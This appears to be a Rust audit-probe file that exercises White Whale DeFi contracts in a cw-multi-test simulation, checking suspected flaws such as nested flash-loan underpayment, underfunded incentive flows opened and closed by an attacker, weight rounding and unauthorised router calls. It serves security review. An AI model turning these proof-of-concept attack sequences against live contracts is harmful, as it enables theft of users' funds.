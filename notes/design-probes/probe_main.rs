use cosmwasm_std::{
    coin, coins, to_json_binary, Addr, Binary, CosmosMsg, Decimal, Empty, Response, StdError,
    Uint128, WasmMsg,
};
use cw_multi_test::{App, AppBuilder, BankKeeper, ContractWrapper, Executor};
use serde::{Deserialize, Serialize};
use white_whale_std::fee::{Fee, VaultFee};
use white_whale_std::pool_network::asset::{Asset, AssetInfo, PairType};
use white_whale_std::pool_network::pair::PoolFee;

#[derive(Debug, Deserialize, Clone, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum AdvMsg {
    Run { msgs: Vec<CosmosMsg> },
}

fn adv_contract() -> Box<dyn cw_multi_test::Contract<Empty>> {
    Box::new(ContractWrapper::new(
        |_d, _e, _i, msg: AdvMsg| -> Result<Response, StdError> {
            match msg {
                AdvMsg::Run { msgs } => Ok(Response::new().add_messages(msgs)),
            }
        },
        |_d, _e, _i, _m: Empty| -> Result<Response, StdError> { Ok(Response::new()) },
        |_d, _e, _m: Empty| -> Result<Binary, StdError> { Err(StdError::generic_err("no")) },
    ))
}

fn app(balances: Vec<(Addr, Vec<cosmwasm_std::Coin>)>) -> App {
    AppBuilder::new()
        .with_bank(BankKeeper::new())
        .build(|router, _api, storage| {
            for (a, c) in balances {
                router.bank.init_balance(storage, &a, c).unwrap();
            }
        })
}

fn nat(d: &str) -> AssetInfo {
    AssetInfo::NativeToken { denom: d.into() }
}

fn bal(app: &App, a: &Addr, d: &str) -> u128 {
    app.wrap().query_balance(a, d).unwrap().amount.u128()
}

fn probe_nested_loan() {
    println!("== P1 nested flash loan (C05/C06)");
    let admin = Addr::unchecked("admin");
    let alice = Addr::unchecked("alice");
    let mut app = app(vec![
        (admin.clone(), coins(10_000_000, "uluna")),
        (alice.clone(), coins(10_000_000, "uluna")),
    ]);
    let vault_id = app.store_code(Box::new(
        ContractWrapper::new(
            vault::contract::execute,
            vault::contract::instantiate,
            vault::contract::query,
        )
        .with_reply(vault::reply::reply),
    ));
    let token_id = app.store_code(Box::new(ContractWrapper::new(
        terraswap_token::contract::execute,
        terraswap_token::contract::instantiate,
        terraswap_token::contract::query,
    )));
    let adv_id = app.store_code(adv_contract());
    let vault = app
        .instantiate_contract(
            vault_id,
            admin.clone(),
            &white_whale_std::vault_network::vault::InstantiateMsg {
                owner: admin.to_string(),
                asset_info: nat("uluna"),
                token_id,
                vault_fees: VaultFee {
                    protocol_fee: Fee { share: Decimal::percent(1) },
                    flash_loan_fee: Fee { share: Decimal::zero() },
                    burn_fee: Fee { share: Decimal::zero() },
                },
                fee_collector_addr: "collector".into(),
                token_factory_lp: false,
            },
            &[],
            "vault",
            None,
        )
        .unwrap();
    let adv = app
        .instantiate_contract(adv_id, admin.clone(), &Empty {}, &[], "adv", None)
        .unwrap();
    app.execute_contract(
        alice.clone(),
        vault.clone(),
        &white_whale_std::vault_network::vault::ExecuteMsg::Deposit { amount: Uint128::new(1_000_000) },
        &coins(1_000_000, "uluna"),
    )
    .unwrap();
    // give adversary some own funds to pay fees
    app.send_tokens(admin.clone(), adv.clone(), &coins(1_000, "uluna")).unwrap();

    let share_before: Uint128 = app
        .wrap()
        .query_wasm_smart(&vault, &white_whale_std::vault_network::vault::QueryMsg::Share { amount: Uint128::new(1_000_000) })
        .unwrap();
    let vb = bal(&app, &vault, "uluna");
    let ab = bal(&app, &adv, "uluna");

    use white_whale_std::vault_network::vault::ExecuteMsg as V;
    // inner callback: repay a2 + fee2
    let a1 = 10_000u128;
    let a2 = 990_000u128;
    let inner_cb = AdvMsg::Run {
        msgs: vec![cosmwasm_std::BankMsg::Send { to_address: vault.to_string(), amount: coins(a2 + a2 / 100, "uluna") }.into()],
    };
    let outer_cb = AdvMsg::Run {
        msgs: vec![
            WasmMsg::Execute {
                contract_addr: vault.to_string(),
                msg: to_json_binary(&V::FlashLoan { amount: a2.into(), msg: to_json_binary(&inner_cb).unwrap() }).unwrap(),
                funds: vec![],
            }
            .into(),
            // repay only what the outer check still needs: a1 + fee1 - fee2
            cosmwasm_std::BankMsg::Send { to_address: vault.to_string(), amount: coins(a1 + a1 / 100 - a2 / 100, "uluna") }.into(),
        ],
    };
    // adversary triggers loan via Run so that the adversary contract is the borrower
    let res = app.execute_contract(
        admin.clone(),
        adv.clone(),
        &AdvMsg::Run {
            msgs: vec![WasmMsg::Execute {
                contract_addr: vault.to_string(),
                msg: to_json_binary(&V::FlashLoan { amount: a1.into(), msg: to_json_binary(&outer_cb).unwrap() }).unwrap(),
                funds: vec![],
            }
            .into()],
        },
        &[],
    );
    println!("nested loan result ok={}", res.is_ok());
    if let Err(e) = &res {
        println!("  err: {:#}", e);
    }
    let share_after: Uint128 = app
        .wrap()
        .query_wasm_smart(&vault, &white_whale_std::vault_network::vault::QueryMsg::Share { amount: Uint128::new(1_000_000) })
        .unwrap();
    let fees: white_whale_std::vault_network::vault::ProtocolFeesResponse = app
        .wrap()
        .query_wasm_smart(&vault, &white_whale_std::vault_network::vault::QueryMsg::ProtocolFees { all_time: false })
        .unwrap();
    println!(
        "vault balance {} -> {}, adv balance {} -> {}, pending fees {}, share(1e6 LP) {} -> {}",
        vb,
        bal(&app, &vault, "uluna"),
        ab,
        bal(&app, &adv, "uluna"),
        fees.fees.amount,
        share_before,
        share_after
    );
}

fn setup_pair(app: &mut App, admin: &Addr, pair_type: PairType, fees: PoolFee) -> Addr {
    let pair_id = app.store_code(Box::new(
        ContractWrapper::new(
            terraswap_pair::contract::execute,
            terraswap_pair::contract::instantiate,
            terraswap_pair::contract::query,
        )
        .with_reply(terraswap_pair::contract::reply),
    ));
    let token_id = app.store_code(Box::new(ContractWrapper::new(
        terraswap_token::contract::execute,
        terraswap_token::contract::instantiate,
        terraswap_token::contract::query,
    )));
    app.instantiate_contract(
        pair_id,
        admin.clone(),
        &white_whale_std::pool_network::pair::InstantiateMsg {
            asset_infos: [nat("uluna"), nat("uusd")],
            token_code_id: token_id,
            asset_decimals: [6, 6],
            pool_fees: fees,
            fee_collector_addr: "collector".into(),
            pair_type,
            token_factory_lp: false,
        },
        &[],
        "pair",
        None,
    )
    .unwrap()
}

fn probe_swap_underflow() {
    println!("== P2 constant product swap at extreme ratio (C02)");
    let admin = Addr::unchecked("admin");
    let big = 10u128.pow(30);
    let mut app = app(vec![(admin.clone(), vec![coin(big, "uluna"), coin(big, "uusd")])]);
    let pair = setup_pair(
        &mut app,
        &admin,
        PairType::ConstantProduct,
        PoolFee {
            protocol_fee: Fee { share: Decimal::zero() },
            swap_fee: Fee { share: Decimal::zero() },
            burn_fee: Fee { share: Decimal::zero() },
        },
    );
    let r0 = 10u128.pow(25);
    let r1 = 10u128.pow(6);
    app.execute_contract(
        admin.clone(),
        pair.clone(),
        &white_whale_std::pool_network::pair::ExecuteMsg::ProvideLiquidity {
            assets: [Asset { info: nat("uluna"), amount: r0.into() }, Asset { info: nat("uusd"), amount: r1.into() }],
            slippage_tolerance: None,
            receiver: None,
        },
        &[coin(r0, "uluna"), coin(r1, "uusd")],
    )
    .unwrap();
    let offer = 10u128.pow(20);
    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        app.wrap().query_wasm_smart::<white_whale_std::pool_network::pair::SimulationResponse>(
            &pair,
            &white_whale_std::pool_network::pair::QueryMsg::Simulation { offer_asset: Asset { info: nat("uluna"), amount: offer.into() } },
        )
    }));
    match r {
        Ok(Ok(s)) => println!("simulation ok: {:?} (expected floor = {})", s, r1 * offer / (r0 + offer)),
        Ok(Err(e)) => println!("simulation Err: {}", e),
        Err(_) => println!("simulation PANICKED (abort); expected gross = {}", r1 * offer / (r0 + offer)),
    }
}

fn probe_subthreshold_collect() {
    println!("== P3 sub-threshold fee collection (C07)");
    let admin = Addr::unchecked("admin");
    let mut app = app(vec![(admin.clone(), vec![coin(10u128.pow(12), "uluna"), coin(10u128.pow(12), "uusd")])]);
    let pair = setup_pair(
        &mut app,
        &admin,
        PairType::ConstantProduct,
        PoolFee {
            protocol_fee: Fee { share: Decimal::permille(1) },
            swap_fee: Fee { share: Decimal::permille(2) },
            burn_fee: Fee { share: Decimal::zero() },
        },
    );
    use white_whale_std::pool_network::pair::{ExecuteMsg as P, PoolResponse, ProtocolFeesResponse, QueryMsg as Q};
    app.execute_contract(
        admin.clone(),
        pair.clone(),
        &P::ProvideLiquidity {
            assets: [Asset { info: nat("uluna"), amount: 1_000_000u128.into() }, Asset { info: nat("uusd"), amount: 1_000_000u128.into() }],
            slippage_tolerance: None,
            receiver: None,
        },
        &[coin(1_000_000, "uluna"), coin(1_000_000, "uusd")],
    )
    .unwrap();
    app.execute_contract(
        admin.clone(),
        pair.clone(),
        &P::Swap { offer_asset: Asset { info: nat("uluna"), amount: 100_000u128.into() }, belief_price: None, max_spread: Some(Decimal::percent(50)), to: None },
        &coins(100_000, "uluna"),
    )
    .unwrap();
    let fees: ProtocolFeesResponse = app.wrap().query_wasm_smart(&pair, &Q::ProtocolFees { asset_id: None, all_time: None }).unwrap();
    let pool: PoolResponse = app.wrap().query_wasm_smart(&pair, &Q::Pool {}).unwrap();
    println!("before collect: pending {:?} reserves {:?} pair uusd bal {}", fees.fees.iter().map(|a| a.amount.u128()).collect::<Vec<_>>(), pool.assets.iter().map(|a| a.amount.u128()).collect::<Vec<_>>(), bal(&app, &pair, "uusd"));
    app.execute_contract(admin.clone(), pair.clone(), &P::CollectProtocolFees {}, &[]).unwrap();
    let fees: ProtocolFeesResponse = app.wrap().query_wasm_smart(&pair, &Q::ProtocolFees { asset_id: None, all_time: None }).unwrap();
    let pool: PoolResponse = app.wrap().query_wasm_smart(&pair, &Q::Pool {}).unwrap();
    println!("after  collect: pending {:?} reserves {:?} pair uusd bal {} collector uusd {}", fees.fees.iter().map(|a| a.amount.u128()).collect::<Vec<_>>(), pool.assets.iter().map(|a| a.amount.u128()).collect::<Vec<_>>(), bal(&app, &pair, "uusd"), bal(&app, &Addr::unchecked("collector"), "uusd"));
}


// ---------- mock fee distributor for whale lair -------------
fn mock_distributor() -> Box<dyn cw_multi_test::Contract<Empty>> {
    use white_whale_std::fee_distributor as fd;
    Box::new(ContractWrapper::new(
        |_d, _e, _i, _m: Empty| -> Result<Response, StdError> { Ok(Response::new()) },
        |_d, _e, _i, _m: Empty| -> Result<Response, StdError> { Ok(Response::new()) },
        |_d, env, m: fd::QueryMsg| -> Result<Binary, StdError> {
            match m {
                fd::QueryMsg::Claimable { .. } | fd::QueryMsg::ClaimableEpochs {} => to_json_binary(&fd::ClaimableEpochsResponse { epochs: vec![] }),
                fd::QueryMsg::CurrentEpoch {} | fd::QueryMsg::Epoch { .. } => to_json_binary(&fd::EpochResponse {
                    epoch: fd::Epoch { id: 1u64.into(), start_time: env.block.time, ..Default::default() },
                }),
                fd::QueryMsg::Config {} => to_json_binary(&fd::Config {
                    owner: Addr::unchecked("o"),
                    bonding_contract_addr: Addr::unchecked("b"),
                    fee_collector_addr: Addr::unchecked("c"),
                    grace_period: 2u64.into(),
                    epoch_config: white_whale_std::epoch_manager::epoch_manager::EpochConfig { duration: 86_400_000_000_000u64.into(), genesis_epoch: 0u64.into() },
                    distribution_asset: nat("uwhale"),
                }),
            }
        },
    ))
}

fn probe_lair_same_block() {
    println!("== P4 whale lair: two unbonds in the same block (C08)");
    let admin = Addr::unchecked("admin");
    let alice = Addr::unchecked("alice");
    let mut app = app(vec![(alice.clone(), coins(1_000_000, "uwhale"))]);
    let lair_id = app.store_code(Box::new(ContractWrapper::new(whale_lair::contract::execute, whale_lair::contract::instantiate, whale_lair::contract::query)));
    let fd_id = app.store_code(mock_distributor());
    let fd = app.instantiate_contract(fd_id, admin.clone(), &Empty {}, &[], "fd", None).unwrap();
    use white_whale_std::whale_lair as wl;
    let lair = app
        .instantiate_contract(lair_id, admin.clone(), &wl::InstantiateMsg { unbonding_period: 1_000u64.into(), growth_rate: Decimal::zero(), bonding_assets: vec![nat("uwhale"), nat("ubwhale")] }, &[], "lair", None)
        .unwrap();
    app.execute_contract(admin.clone(), lair.clone(), &wl::ExecuteMsg::UpdateConfig { owner: None, unbonding_period: None, growth_rate: None, fee_distributor_addr: Some(fd.to_string()) }, &[]).unwrap();
    app.execute_contract(alice.clone(), lair.clone(), &wl::ExecuteMsg::Bond { asset: Asset { info: nat("uwhale"), amount: 1000u128.into() } }, &coins(1000, "uwhale")).unwrap();
    // two unbonds without advancing the block
    app.execute_contract(alice.clone(), lair.clone(), &wl::ExecuteMsg::Unbond { asset: Asset { info: nat("uwhale"), amount: 300u128.into() } }, &[]).unwrap();
    app.execute_contract(alice.clone(), lair.clone(), &wl::ExecuteMsg::Unbond { asset: Asset { info: nat("uwhale"), amount: 200u128.into() } }, &[]).unwrap();
    let b: wl::BondedResponse = app.wrap().query_wasm_smart(&lair, &wl::QueryMsg::Bonded { address: alice.to_string() }).unwrap();
    let u: wl::UnbondingResponse = app.wrap().query_wasm_smart(&lair, &wl::QueryMsg::Unbonding { address: alice.to_string(), denom: "uwhale".into(), start_after: None, limit: None }).unwrap();
    println!("contract balance {} bonded {} unbonding {} (records {})", bal(&app, &lair, "uwhale"), b.total_bonded, u.total_amount, u.unbonding_requests.len());
    app.update_block(|b| b.time = b.time.plus_nanos(2_000));
    app.execute_contract(alice.clone(), lair.clone(), &wl::ExecuteMsg::Withdraw { denom: "uwhale".into() }, &[]).unwrap();
    println!("after withdraw: alice {} contract {} (alice started with 1000000, 500 still bonded)", bal(&app, &alice, "uwhale"), bal(&app, &lair, "uwhale"));
}

fn probe_vault_burn_fee_factory_asset() {
    println!("== P7 vault over token-factory asset: burn fee via update_config (C18)");
    let admin = Addr::unchecked("admin");
    let mut app = app(vec![]);
    let vault_id = app.store_code(Box::new(ContractWrapper::new(vault::contract::execute, vault::contract::instantiate, vault::contract::query).with_reply(vault::reply::reply)));
    let token_id = app.store_code(Box::new(ContractWrapper::new(terraswap_token::contract::execute, terraswap_token::contract::instantiate, terraswap_token::contract::query)));
    use white_whale_std::vault_network::vault as v;
    let fees = |b: u64| VaultFee { protocol_fee: Fee { share: Decimal::permille(1) }, flash_loan_fee: Fee { share: Decimal::permille(1) }, burn_fee: Fee { share: Decimal::permille(b) } };
    let denom = "factory/migaloo1abc/utest";
    let r = app.instantiate_contract(vault_id, admin.clone(), &v::InstantiateMsg { owner: admin.to_string(), asset_info: nat(denom), token_id, vault_fees: fees(1), fee_collector_addr: "collector".into(), token_factory_lp: false }, &[], "v", None);
    println!("instantiate with burn fee on factory asset: ok={}", r.is_ok());
    let vault = app.instantiate_contract(vault_id, admin.clone(), &v::InstantiateMsg { owner: admin.to_string(), asset_info: nat(denom), token_id, vault_fees: fees(0), fee_collector_addr: "collector".into(), token_factory_lp: false }, &[], "v2", None).map_err(|e| { println!("ERR {:#}", e); e }).unwrap();
    let r = app.execute_contract(admin.clone(), vault.clone(), &v::ExecuteMsg::UpdateConfig(v::UpdateConfigParams { flash_loan_enabled: None, deposit_enabled: None, withdraw_enabled: None, new_owner: None, new_vault_fees: Some(fees(1)), new_fee_collector_addr: None }), &[]);
    let cfg: v::Config = app.wrap().query_wasm_smart(&vault, &v::QueryMsg::Config {}).unwrap();
    println!("update_config with burn fee: ok={} stored burn fee share={}", r.is_ok(), cfg.fees.burn_fee.share);
}

fn probe_stable_amp_zero() {
    println!("== P8 two-asset stableswap pair with amp out of [1,1e6] (C18)");
    let admin = Addr::unchecked("admin");
    let mut app = app(vec![(admin.clone(), vec![coin(10u128.pow(12), "uluna"), coin(10u128.pow(12), "uusd")])]);
    for amp in [0u64, 10_000_000u64] {
        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            setup_pair(&mut app, &admin, PairType::StableSwap { amp }, PoolFee { protocol_fee: Fee { share: Decimal::zero() }, swap_fee: Fee { share: Decimal::zero() }, burn_fee: Fee { share: Decimal::zero() } })
        }));
        match r {
            Ok(p) => {
                let info: white_whale_std::pool_network::asset::PairInfo = app.wrap().query_wasm_smart(&p, &white_whale_std::pool_network::pair::QueryMsg::Pair {}).unwrap();
                println!("amp={} instantiate accepted, stored pair_type={:?}", amp, info.pair_type);
            }
            Err(_) => println!("amp={} rejected", amp),
        }
    }
}


struct Inc { app: App, incentive: Addr, fd: Addr, admin: Addr }
fn setup_incentive(fee_amount: u128, users: Vec<(Addr, Vec<cosmwasm_std::Coin>)>) -> Inc {
    let admin = Addr::unchecked("admin");
    let mut app = app(users);
    let inc_id = app.store_code(Box::new(ContractWrapper::new(incentive::contract::execute, incentive::contract::instantiate, incentive::contract::query)));
    let fac_id = app.store_code(Box::new(ContractWrapper::new(incentive_factory::contract::execute, incentive_factory::contract::instantiate, incentive_factory::contract::query).with_reply(incentive_factory::contract::reply)));
    let fd_id = app.store_code(Box::new(ContractWrapper::new(fee_distributor_mock::contract::execute, fee_distributor_mock::contract::instantiate, fee_distributor_mock::contract::query)));
    let fd = app.instantiate_contract(fd_id, admin.clone(), &fee_distributor_mock::msg::InstantiateMsg {}, &[], "fd", None).unwrap();
    use white_whale_std::pool_network::incentive_factory as f;
    let fac = app.instantiate_contract(fac_id, admin.clone(), &f::InstantiateMsg {
        fee_collector_addr: "collector".into(), fee_distributor_addr: fd.to_string(),
        create_flow_fee: Asset { info: nat("uwhale"), amount: fee_amount.into() },
        max_concurrent_flows: 5, incentive_code_id: inc_id, max_flow_epoch_buffer: 10,
        min_unbonding_duration: 86400, max_unbonding_duration: 31556926 }, &[], "fac", None).unwrap();
    app.execute_contract(admin.clone(), fac.clone(), &f::ExecuteMsg::CreateIncentive { lp_asset: nat("ulp") }, &[]).unwrap();
    let incentive: f::IncentiveResponse = app.wrap().query_wasm_smart(&fac, &f::QueryMsg::Incentive { lp_asset: nat("ulp") }).unwrap();
    Inc { app, incentive: incentive.unwrap(), fd, admin }
}
impl Inc {
    fn new_epoch(&mut self) {
        self.app.execute_contract(self.admin.clone(), self.fd.clone(), &white_whale_std::fee_distributor::ExecuteMsg::NewEpoch {}, &[]).unwrap();
    }
}

fn probe_flows() {
    println!("== P5 incentive flows (C12)");
    use white_whale_std::pool_network::incentive as i;
    let alice = Addr::unchecked("alice");
    let mallory = Addr::unchecked("mallory");
    let mut s = setup_incentive(1_000, vec![(alice.clone(), coins(10_000_000, "uwhale")), (mallory.clone(), coins(10_000, "uwhale"))]);
    let inc = s.incentive.clone();
    // honest flow by alice: 1_000_000 + fee 1000 in the same denom
    s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::OpenFlow { start_epoch: None, end_epoch: Some(10), curve: None, flow_asset: Asset { info: nat("uwhale"), amount: 1_001_000u128.into() }, flow_label: Some("honest".into()) }, &coins(1_001_000, "uwhale")).unwrap();
    println!("after honest open: incentive holds {} uwhale", bal(&s.app, &inc, "uwhale"));
    // mallory declares 900_000 + fee but only sends the fee
    let r = s.app.execute_contract(mallory.clone(), inc.clone(), &i::ExecuteMsg::OpenFlow { start_epoch: None, end_epoch: Some(10), curve: None, flow_asset: Asset { info: nat("uwhale"), amount: 901_000u128.into() }, flow_label: Some("evil".into()) }, &coins(1_000, "uwhale"));
    println!("mallory open_flow declaring 901000 while sending 1000: ok={}", r.is_ok());
    println!("incentive holds {} uwhale, mallory {}", bal(&s.app, &inc, "uwhale"), bal(&s.app, &mallory, "uwhale"));
    let r = s.app.execute_contract(mallory.clone(), inc.clone(), &i::ExecuteMsg::CloseFlow { flow_identifier: i::FlowIdentifier::Label("evil".into()) }, &[]);
    println!("mallory close_flow: ok={} -> incentive holds {} uwhale, mallory {}", r.is_ok(), bal(&s.app, &inc, "uwhale"), bal(&s.app, &mallory, "uwhale"));

    // expanded flow then close (fresh instance)
    let mut s = setup_incentive(1_000, vec![(alice.clone(), coins(10_000_000, "uwhale"))]);
    let inc = s.incentive.clone();
    s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::OpenFlow { start_epoch: None, end_epoch: Some(10), curve: None, flow_asset: Asset { info: nat("uwhale"), amount: 1_001_000u128.into() }, flow_label: Some("honest".into()) }, &coins(1_001_000, "uwhale")).unwrap();
    let before = bal(&s.app, &alice, "uwhale");
    s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::ExpandFlow { flow_identifier: i::FlowIdentifier::Label("honest".into()), end_epoch: None, flow_asset: Asset { info: nat("uwhale"), amount: 500_000u128.into() } }, &coins(500_000, "uwhale")).unwrap();
    let held = bal(&s.app, &inc, "uwhale");
    s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::CloseFlow { flow_identifier: i::FlowIdentifier::Label("honest".into()) }, &[]).unwrap();
    println!("alice expanded by 500000 (incentive held {}), closed: alice delta {} ; incentive still holds {}", held, bal(&s.app, &alice, "uwhale") as i128 - before as i128, bal(&s.app, &inc, "uwhale"));
}

fn probe_weights() {
    println!("== P6 incentive weights (C13)");
    use white_whale_std::pool_network::incentive as i;
    let alice = Addr::unchecked("alice");
    let bob = Addr::unchecked("bob");
    let mut s = setup_incentive(0, vec![(alice.clone(), coins(10_000_000, "ulp")), (bob.clone(), coins(10_000_000, "ulp"))]);
    let inc = s.incentive.clone();
    let d = 1_000_000u64; // duration with a fractional multiplier
    let w = |app: &App, who: &Addr| -> Vec<u128> {
        let p: i::PositionsResponse = app.wrap().query_wasm_smart(&inc, &i::QueryMsg::Positions { address: who.to_string() }).unwrap();
        p.positions.iter().map(|q| match q { i::QueryPosition::OpenPosition { weight, .. } => weight.u128(), i::QueryPosition::ClosedPosition { weight, .. } => weight.u128() }).collect()
    };
    let raw_global = |app: &App| -> Uint128 {
        let v = app.wrap().query_wasm_raw(&inc, b"global_weight".to_vec()).unwrap().unwrap();
        cosmwasm_std::from_json(&v).unwrap()
    };
    let raw_addr = |app: &App, who: &Addr| -> Uint128 {
        let mut k = vec![0u8, 14]; k.extend_from_slice(b"address_weight"); k.extend_from_slice(who.as_bytes());
        app.wrap().query_wasm_raw(&inc, k).unwrap().map(|v| cosmwasm_std::from_json(&v).unwrap()).unwrap_or_default()
    };
    s.app.execute_contract(bob.clone(), inc.clone(), &i::ExecuteMsg::OpenPosition { amount: 1000u128.into(), unbonding_duration: 86400, receiver: None }, &coins(1000, "ulp")).unwrap();
    // search small amounts where weight(a1)+weight(a2) < weight(a1+a2)
    let mut found = None;
    'o: for a1 in 1..60u128 { for a2 in 1..60u128 {
        let mut t = setup_incentive(0, vec![(alice.clone(), coins(10_000_000, "ulp"))]);
        let q = |t: &mut Inc, a: u128| -> u128 {
            t.app.execute_contract(alice.clone(), t.incentive.clone(), &i::ExecuteMsg::OpenPosition { amount: a.into(), unbonding_duration: d, receiver: None }, &coins(a, "ulp")).unwrap();
            let p: i::PositionsResponse = t.app.wrap().query_wasm_smart(&t.incentive, &i::QueryMsg::Positions { address: alice.to_string() }).unwrap();
            match &p.positions[0] { i::QueryPosition::OpenPosition { weight, .. } => weight.u128(), _ => 0 }
        };
        let w1 = q(&mut t, a1);
        let mut t2 = setup_incentive(0, vec![(alice.clone(), coins(10_000_000, "ulp"))]);
        let w2 = q(&mut t2, a2);
        let mut t3 = setup_incentive(0, vec![(alice.clone(), coins(10_000_000, "ulp"))]);
        let w12 = q(&mut t3, a1 + a2);
        if w1 + w2 < w12 { found = Some((a1, a2, w1, w2, w12)); break 'o; }
    }}
    println!("non-additive weights at duration {}: {:?}", d, found);
    let (a1, a2, ..) = found.unwrap();
    s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::OpenPosition { amount: a1.into(), unbonding_duration: d, receiver: None }, &coins(a1, "ulp")).unwrap();
    s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::ExpandPosition { amount: a2.into(), unbonding_duration: d, receiver: None }, &coins(a2, "ulp")).unwrap();
    println!("after open+expand: global {} alice {} bob {} (positions alice {:?})", raw_global(&s.app), raw_addr(&s.app, &alice), raw_addr(&s.app, &bob), w(&s.app, &alice));
    s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::ClosePosition { unbonding_duration: d }, &[]).unwrap();
    println!("after close:       global {} alice {} bob {}  => global == sum? {}", raw_global(&s.app), raw_addr(&s.app, &alice), raw_addr(&s.app, &bob), raw_global(&s.app) == raw_addr(&s.app, &alice) + raw_addr(&s.app, &bob));
    s.new_epoch();
    s.app.execute_contract(bob.clone(), inc.clone(), &i::ExecuteMsg::TakeGlobalWeightSnapshot {}, &[]).unwrap();
    let sh: i::RewardsShareResponse = s.app.wrap().query_wasm_smart(&inc, &i::QueryMsg::CurrentEpochRewardsShare { address: bob.to_string() }).unwrap();
    println!("bob share next epoch: {} (weight {} / global {})", sh.share, sh.address_weight, sh.global_weight);
}


fn probe_trio_ramp() {
    println!("== P9 3pool amp ramp-down bound (C04)");
    let admin = Addr::unchecked("admin");
    let mut app = app(vec![]);
    let trio_id = app.store_code(Box::new(ContractWrapper::new(stableswap_3pool::contract::execute, stableswap_3pool::contract::instantiate, stableswap_3pool::contract::query).with_reply(stableswap_3pool::contract::reply)));
    let token_id = app.store_code(Box::new(ContractWrapper::new(terraswap_token::contract::execute, terraswap_token::contract::instantiate, terraswap_token::contract::query)));
    use white_whale_std::pool_network::trio as t;
    let zero = || Fee { share: Decimal::zero() };
    let trio = app.instantiate_contract(trio_id, admin.clone(), &t::InstantiateMsg { asset_infos: [nat("ua"), nat("ub"), nat("uc")], token_code_id: token_id, asset_decimals: [6, 6, 6], pool_fees: t::PoolFee { protocol_fee: zero(), swap_fee: zero(), burn_fee: zero() }, fee_collector_addr: "collector".into(), amp_factor: 1000, token_factory_lp: false }, &[], "trio", None).unwrap();
    let h = app.block_info().height;
    for fut in [500u64, 101, 5] {
        let r = app.execute_contract(admin.clone(), trio.clone(), &t::ExecuteMsg::UpdateConfig { owner: None, fee_collector_addr: None, pool_fees: None, feature_toggle: None, amp_factor: Some(t::RampAmp { future_a: fut, future_block: h + 20_000 }) }, &[]);
        println!("ramp 1000 -> {}: accepted={}", fut, r.is_ok());
        if r.is_ok() { break; }
    }
    let cfg: t::Config = app.wrap().query_wasm_smart(&trio, &t::QueryMsg::Config {}).unwrap();
    println!("config initial_amp {} future_amp {}", cfg.initial_amp, cfg.future_amp);
}

fn probe_router_min_receive_auth() {
    println!("== P10 router AssertMinimumReceive by a stranger (C16)");
    let admin = Addr::unchecked("admin");
    let mallory = Addr::unchecked("mallory");
    let mut app = app(vec![(mallory.clone(), coins(5, "uluna"))]);
    let router_id = app.store_code(Box::new(ContractWrapper::new(terraswap_router::contract::execute, terraswap_router::contract::instantiate, terraswap_router::contract::query)));
    use white_whale_std::pool_network::router as r;
    let router = app.instantiate_contract(router_id, admin.clone(), &r::InstantiateMsg { terraswap_factory: "factory".into() }, &[], "router", Some(admin.to_string())).unwrap();
    let res = app.execute_contract(mallory.clone(), router.clone(), &r::ExecuteMsg::AssertMinimumReceive { asset_info: nat("uluna"), prev_balance: Uint128::zero(), minimum_receive: Uint128::new(1), receiver: mallory.to_string() }, &[]);
    println!("stranger AssertMinimumReceive: ok={}", res.is_ok());
    let res = app.execute_contract(mallory.clone(), router.clone(), &r::ExecuteMsg::ExecuteSwapOperation { operation: r::SwapOperation::TerraSwap { offer_asset_info: nat("uluna"), ask_asset_info: nat("uusd") }, to: None, max_spread: None }, &[]);
    println!("stranger ExecuteSwapOperation: ok={}", res.is_ok());
    let router2 = app.instantiate_contract(router_id, admin.clone(), &r::InstantiateMsg { terraswap_factory: "factory".into() }, &[], "router2", None).unwrap();
    let res = app.execute_contract(mallory.clone(), router2.clone(), &r::ExecuteMsg::RemoveSwapRoutes { swap_routes: vec![] }, &[]);
    println!("stranger RemoveSwapRoutes([]) on admin-less router: ok={}", res.is_ok());
    let res = app.execute_contract(mallory.clone(), router.clone(), &r::ExecuteMsg::RemoveSwapRoutes { swap_routes: vec![] }, &[]);
    println!("stranger RemoveSwapRoutes([]) on router with admin: ok={}", res.is_ok());
}

fn probe_stable_lp_decimals() {
    println!("== P11 two-asset stableswap deposit with unequal decimals (C03)");
    let admin = Addr::unchecked("admin");
    let eve = Addr::unchecked("eve");
    let a6 = 10u128.pow(6); let b18 = 10u128.pow(18);
    let mut app = app(vec![(admin.clone(), vec![coin(10_000_000 * a6, "ua"), coin(10_000_000 * b18, "ub")]), (eve.clone(), vec![coin(10_000_000 * a6, "ua"), coin(10_000_000 * b18, "ub")])]);
    let pair_id = app.store_code(Box::new(ContractWrapper::new(terraswap_pair::contract::execute, terraswap_pair::contract::instantiate, terraswap_pair::contract::query).with_reply(terraswap_pair::contract::reply)));
    let token_id = app.store_code(Box::new(ContractWrapper::new(terraswap_token::contract::execute, terraswap_token::contract::instantiate, terraswap_token::contract::query)));
    use white_whale_std::pool_network::pair as p;
    let zero = || Fee { share: Decimal::zero() };
    let pair = app.instantiate_contract(pair_id, admin.clone(), &p::InstantiateMsg { asset_infos: [nat("ua"), nat("ub")], token_code_id: token_id, asset_decimals: [6, 18], pool_fees: PoolFee { protocol_fee: zero(), swap_fee: zero(), burn_fee: zero() }, fee_collector_addr: "collector".into(), pair_type: PairType::StableSwap { amp: 100 }, token_factory_lp: false }, &[], "pair", None).unwrap();
    let prov = |app: &mut App, who: &Addr, a: u128, b: u128| app.execute_contract(who.clone(), pair.clone(), &p::ExecuteMsg::ProvideLiquidity { assets: [Asset { info: nat("ua"), amount: a.into() }, Asset { info: nat("ub"), amount: b.into() }], slippage_tolerance: None, receiver: None }, &[coin(a, "ua"), coin(b, "ub")]);
    prov(&mut app, &admin, 1_000_000 * a6, 1_000_000 * b18).unwrap();
    let info: white_whale_std::pool_network::asset::PairInfo = app.wrap().query_wasm_smart(&pair, &p::QueryMsg::Pair {}).unwrap();
    let lp = match info.liquidity_token { AssetInfo::Token { contract_addr } => Addr::unchecked(contract_addr), _ => panic!() };
